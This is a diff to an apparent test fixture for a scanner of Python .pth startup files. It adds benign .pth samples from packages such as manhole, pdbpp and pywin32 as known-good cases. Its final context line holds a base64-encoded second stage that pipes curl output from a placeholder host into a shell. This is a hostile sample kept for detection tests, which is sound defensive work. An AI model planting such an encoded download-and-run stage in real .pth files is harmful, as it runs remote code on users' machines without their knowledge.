@@ -48,6 +48,35 @@ NSPKG = (
     b"[os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
     b"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
 )
+MANHOLE = (
+    b'import os, sys;exec(\'if "PYTHONMANHOLE" in os.environ:\\n try:\\n  from manhole import install\\n  '
+    b'eval("install({0[PYTHONMANHOLE]})".format(os.environ))\\n except Exception as exc:\\n  '
+    b'sys.stderr.write("Failed to manhole.install({[PYTHONMANHOLE]}): {!r}\\\\n".format(os.environ, exc))\\n\')\n'
+)
+PDBPP = (
+    b"# This script is used by Python's site module.\n"
+    b"# Doc: https://docs.python.org/3/library/site.html\n"
+    b"# Code: https://github.com/blueyed/cpython/blob/1b293b600/Lib/site.py#L148-L187\n"
+    b"#\n"
+    b"# See `setup.py` for a similar setup for editable installs.\n"
+    b"#\n"
+    b'# Add our "_pdbpp_path_hack" to the beginning of `sys.path` if:\n'
+    b"# 1. the environment variable PDBPP_HIJACK_PDB is trueish (as an int), defaults to 1.\n"
+    b"#    i.e. PDBPP_HIJACK_PDB=0 can be used to disable it.\n"
+    b"# 2. there is not another one already at the beginning\n"
+    b'#    (e.g. via a virtualenv using "include-system-site-packages")\n'
+    b'import os; _pdbpp_path = f"{os.path.sep}_pdbpp_path_hack"; import sys; sys.path.insert(0, makepath(sitedir, "_pdbpp_path_hack")[0]) if int(os.environ.get(\'PDBPP_HIJACK_PDB\', 1)) and not sys.path[0].endswith(_pdbpp_path) else None\n'
+)
+PIP_SYSTEM_CERTS = (
+    b"import os, sys; __import__('pip_system_certs.bootstrap') and "
+    b"sys.modules['pip_system_certs.bootstrap'].bootstrap()\n"
+)
+PYWIN32 = (
+    b"# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\npythonwin\r\n"
+    b"# And some hackery to deal with environments where the post_install script\r\n# isn't run.\r\n"
+    b"import pywin32_bootstrap\r\n"
+)
+HUNTER = b"import hunter; hunter._embed_via_environment()\n"
 VIRTUALENV = b"import _virtualenv\n"
 EDITABLE = b"import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n"
 PLAIN_PATH = b"src\n"
@@ -61,6 +90,11 @@ LEGITIMATE: dict[str, bytes] = {
     "_virtualenv.pth": VIRTUALENV,
     "__editable__.demo-1.0.pth": EDITABLE,
     "demo.pth": PLAIN_PATH,
+    "manhole.pth": MANHOLE,
+    "pdbpp_hijack_pdb.pth": PDBPP,
+    "pip_system_certs.pth": PIP_SYSTEM_CERTS,
+    "pywin32.pth": PYWIN32,
+    "hunter.pth": HUNTER,
 }
 
 _STAGE2 = base64.b64encode(b"import os\nos.system('curl -s https://exfil.invalid/x | sh')\n").decode()
